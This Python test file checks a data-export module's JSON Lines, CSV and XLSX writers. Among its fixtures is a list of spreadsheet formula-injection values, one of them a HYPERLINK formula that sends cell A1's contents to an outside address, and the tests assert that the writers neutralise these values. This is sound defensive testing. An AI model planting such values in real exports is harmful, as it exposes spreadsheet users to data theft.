"""The three forms, opened again by other programmes' readers (S14)."""

import csv
import io
import json
from datetime import UTC, datetime, timedelta, timezone

import pytest
from openpyxl import load_workbook

from desk.exports import writers
from desk.exports.kind import KINDS
from desk.exports.writers import Csv, JsonLines, Value, Writer, Xlsx

AT = datetime(2026, 11, 22, 12, 0, 0, 123456, tzinfo=timezone(timedelta(hours=8)))
COLUMNS = ("owner", "number", "confirmed", "seconds", "at", "nothing")
HOSTILE = [
    '=HYPERLINK("http://192.0.2.1/?"&A1,"open")',
    "+1+1",
    "-1+1",
    "@SUM(1)",
    "\t=1",
    "\r=1",
    'a";"=1+1',
    "a,=1+1",
    "a\n=1+1",
    "a\r\n=1+1;b",
]


def written(form: type[Writer], rows: list[tuple[Value, ...]], columns: tuple[str, ...] = COLUMNS) -> bytes:
    stream = io.BytesIO()
    writer = form(stream)
    writer.begin(columns)
    for row in rows:
        writer.row(row)
    writer.end()
    assert not stream.closed
    return stream.getvalue()


ROW: tuple[Value, ...] = ("样例用户", "05550123", True, 1.5, AT, None)


def test_json_lines() -> None:
    [line] = written(JsonLines, [ROW]).decode().splitlines()
    assert json.loads(line) == {
        "owner": "样例用户",
        "number": "05550123",
        "confirmed": True,
        "seconds": 1.5,
        "at": "2026-11-22T04:00:00.123Z",
        "nothing": None,
    }
    assert list(json.loads(line)) == list(COLUMNS)


def test_csv() -> None:
    header, row = csv.reader(io.StringIO(written(Csv, [ROW]).decode(), newline=""))
    assert header == list(COLUMNS)
    assert row == ["样例用户", "05550123", "true", "1.5", "2026-11-22T04:00:00.123Z", ""]


def test_xlsx() -> None:
    sheet = load_workbook(io.BytesIO(written(Xlsx, [ROW]))).active
    header, row = sheet.iter_rows()
    assert [cell.value for cell in header] == list(COLUMNS)
    assert [cell.value for cell in row] == [
        "样例用户",
        "05550123",
        True,
        1.5,
        "2026-11-22T04:00:00.123Z",
        None,
    ]
    assert [cell.data_type for cell in row] == ["s", "s", "b", "n", "s", "n"]
    assert row[1].number_format == "@", "a telephone number stays text when it is edited"


@pytest.mark.parametrize("text", HOSTILE)
def test_a_hostile_value_stays_one_harmless_cell_in_csv(text: str) -> None:
    content = written(Csv, [(text, "after")], ("owner", "next")).decode()
    _, row = csv.reader(io.StringIO(content, newline=""))
    assert row[0] in (text, f"'{text}")
    assert row[0][0] not in "=+-@\t\r"
    assert row[1] == "after"


@pytest.mark.parametrize("text", HOSTILE)
def test_a_hostile_value_is_cut_by_no_countrys_separator(text: str) -> None:
    content = written(Csv, [(text, "after")], ("owner", "next")).decode()
    for separator in ";\t":
        first = next(iter(list(csv.reader(io.StringIO(content, newline=""), delimiter=separator))[1]))
        assert first[0] not in "=+-@\t\r"


@pytest.mark.parametrize("text", HOSTILE)
def test_a_hostile_value_is_text_in_xlsx(text: str) -> None:
    content = written(Xlsx, [(text, "after")], ("owner", "next"))
    _, (cell, after) = load_workbook(io.BytesIO(content)).active.iter_rows()
    assert cell.data_type == "s"
    assert cell.value[0] not in "=+-@\t\r"
    assert after.value == "after"


def test_what_xml_cannot_carry_does_not_break_a_workbook() -> None:
    content = written(Xlsx, [("a\x00b\x1bc", "x" * 40_000)], ("owner", "next"))
    _, (owner, long) = load_workbook(io.BytesIO(content)).active.iter_rows()
    assert owner.value == "a\ufffdb\ufffdc"
    assert len(long.value) == 32_767


@pytest.mark.parametrize("form", [JsonLines, Csv])
def test_half_a_character_does_not_break_an_export(form: type[Writer]) -> None:
    assert b"a" in written(form, [("a\ud800",)], ("owner",))


def test_a_full_sheet_goes_on_in_the_next(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(writers, "SHEET_ROWS", 3)
    book = load_workbook(io.BytesIO(written(Xlsx, [(str(row),) for row in range(5)], ("n",))))
    found = [[row[0].value for row in sheet.iter_rows()] for sheet in book]
    assert found == [["n", "0", "1"], ["n", "2", "3"], ["n", "4"]]


DESIGN = {
    "fault-reports": "number, line_number, contact_number, confirmed, repeat_count, language, outcome,"
    " last_step, created_at, call, symptom_recording, technician_message",
    "calls": "call, node, started_at, answered_at, ended_at, caller, dialled, queue, agent, waited_seconds,"
    " overflow_prompts, outcome, recording",
}


@pytest.mark.parametrize("name", DESIGN)
def test_the_columns_that_stay_put_come_first(name: str) -> None:
    promised = tuple(DESIGN[name].split(", "))
    assert KINDS[name].columns[: len(promised)] == promised


def test_times_are_utc_to_the_millisecond() -> None:
    assert writers.iso(datetime(2026, 11, 22, tzinfo=UTC)) == "2026-11-22T00:00:00.000Z"
